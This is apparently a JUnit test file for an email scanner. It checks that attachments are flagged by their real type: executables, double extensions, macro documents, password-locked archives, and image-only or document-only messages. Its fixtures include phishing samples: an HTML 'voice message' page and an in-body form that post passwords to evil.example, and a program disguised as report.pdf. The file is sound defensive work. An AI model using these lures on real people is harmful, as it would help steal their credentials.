package io.mailwarden.scanner.signs;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.mailwarden.scanner.Eml;
import io.mailwarden.scanner.Scans;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** What attachments are, whatever they are called. */
public class AttachmentSignsTest {

    private static final String TEXT =
            "Here is the report of the quarter, with all the tables that you asked for on Monday,"
                    + " and the figures of last year beside them, so that everybody can compare the two without opening old files"
                    + " again and again.";

    private static Eml message() {
        return Eml.from("Ann <ann@partner.example>").subject("Report").text(TEXT);
    }

    public static byte[] zip(String... names) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (String name : names) {
                zip.putNextEntry(new ZipEntry(name));
                zip.write(new byte[1000]);
            }
        }
        return bytes.toByteArray();
    }

    // Bit 0 of the flags: the file is encrypted. What is in it does not matter to what reads names.
    private static byte[] locked(byte[] zip) {
        byte[] locked = zip.clone();
        locked[6] |= 1;
        return locked;
    }

    private static byte[] compound(String storage) {
        byte[] name = storage.getBytes(UTF_16LE);
        byte[] file = new byte[2048];
        byte[] magic = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0};
        System.arraycopy(magic, 0, file, 0, 4);
        System.arraycopy(name, 0, file, 1024, name.length);
        return file;
    }

    private static byte[] program() {
        return "MZ\u0090\0 This program cannot be run in DOS mode".getBytes(ISO_8859_1);
    }

    @ParameterizedTest
    @CsvSource({
        "setup.exe, PROGRAM",
        "photo.lnk, PROGRAM",
        "list.js, PROGRAM",
        "disk.iso, PROGRAM",
        "invoice.pdf.exe, DOUBLE_EXTENSION",
        "invoice.pdf.html, DOUBLE_EXTENSION",
        "page.html, HTML_FILE",
    })
    void attachmentIsKnownByItsName(String name, Sign sign) {
        assertThat(Scans.signs(message().file(name, "application/octet-stream", "hello".getBytes(UTF_8))))
                .contains(sign);
    }

    @ParameterizedTest
    @CsvSource({"report.pdf", "photo.jpg", "minutes.v2.docx", "backup.tar.gz", "notes.txt", "invite.ics", "key.asc"})
    void everydayAttachmentsAreClean(String name) {
        Eml message = message().file(name, "application/octet-stream", "hello".getBytes(UTF_8));

        assertThat(Scans.normal(message).verdict().label()).isEqualTo("clean");
    }

    @Test
    void programThatSaysItIsADocumentIsMalicious() {
        Eml message = message().file("report.pdf", "application/pdf", program());

        assertThat(Scans.signs(message)).contains(Sign.DISGUISED_TYPE);
        assertThat(Scans.normal(message).verdict().label()).isEqualTo("malicious");
    }

    @Test
    void macrosAreKnownByWhatTheFileIs() throws IOException {
        byte[] macro = zip("[Content_Types].xml", "word/vbaProject.bin");
        byte[] none = zip("[Content_Types].xml", "word/document.xml");

        assertThat(Scans.signs(message().file("report.docx", "application/msword", macro)))
                .contains(Sign.MACRO);
        assertThat(Scans.signs(message().file("report.doc", "application/msword", compound("_VBA_PROJECT"))))
                .contains(Sign.MACRO);
        assertThat(Scans.signs(message().file("report.docm", "application/msword", none)))
                .doesNotContain(Sign.MACRO);
        assertThat(Scans.signs(message().file("report.doc", "application/msword", compound("WordDocument"))))
                .doesNotContain(Sign.MACRO);
    }

    @Test
    void archiveUnderAPasswordThatTheTextTells() throws IOException {
        byte[] zip = zip("invoice.js");
        Eml message = message().text("The password is 1234").file("invoice.zip", "application/zip", locked(zip));

        assertThat(Scans.signs(message)).contains(Sign.ENCRYPTED_ARCHIVE, Sign.PASSWORD_IN_TEXT, Sign.PROGRAM);
        assertThat(Scans.signs(message().file("a.zip", "application/zip", locked(zip("a.txt")))))
                .contains(Sign.ENCRYPTED_ARCHIVE)
                .doesNotContain(Sign.PASSWORD_IN_TEXT);
        assertThat(Scans.signs(message().file("a.zip", "application/zip", zip("a.txt", "b.jpg"))))
                .doesNotContain(Sign.ENCRYPTED_ARCHIVE, Sign.PROGRAM);
    }

    @Test
    void attachedPageThatAsksForAPasswordIsMalicious() {
        String page = "<html><body><script>document.write(atob('PGI+'))</script><form action=https://evil.example/p>"
                + "<input name=u><input type=password name=p></form></body></html>";
        Eml message = Eml.from("Voice Mail <x@evil.example>")
                .subject("New voice message")
                .text("You have a new voice message. Open the attachment to listen.")
                .file("voice.html", "text/html", page.getBytes(UTF_8));

        assertThat(Scans.signs(message)).contains(Sign.ACTIVE_HTML_FILE);
        assertThat(Scans.heightened(message).verdict().label()).isEqualTo("malicious");
    }

    @Test
    void messageThatIsAllInADocumentIsSeen() {
        Eml message = Eml.from("A <a@evil.example>")
                .subject("Fine")
                .text("See file")
                .file("x.pdf", "application/pdf", new byte[9]);

        assertThat(Scans.signs(message)).contains(Sign.DOCUMENT_ONLY);
        assertThat(Scans.signs(message().text(TEXT).file("x.pdf", "application/pdf", new byte[9])))
                .doesNotContain(Sign.DOCUMENT_ONLY);
    }

    @Test
    void pictureWithFewWordsMayBeACode() {
        byte[] png = "\u0089PNG".getBytes(ISO_8859_1);
        Eml code = Eml.from("HR <x@evil.example>")
                .subject("Sign")
                .html("<p>Scan it</p><img src=cid:1>")
                .file("a.png", "image/png", png);

        assertThat(Scans.signs(code)).contains(Sign.IMAGE_ONLY);
        assertThat(Scans.signs(message().html("<p>" + TEXT + "</p><img src=cid:1>")))
                .doesNotContain(Sign.IMAGE_ONLY);
    }

    @Test
    void formInTheMessageIsSeen() {
        Eml message = Eml.from("A <a@evil.example>")
                .subject("Login")
                .html("<form action='https://evil.example/x'><input type=password></form>");

        assertThat(Scans.signs(message)).contains(Sign.PASSWORD_FIELD);
    }
}
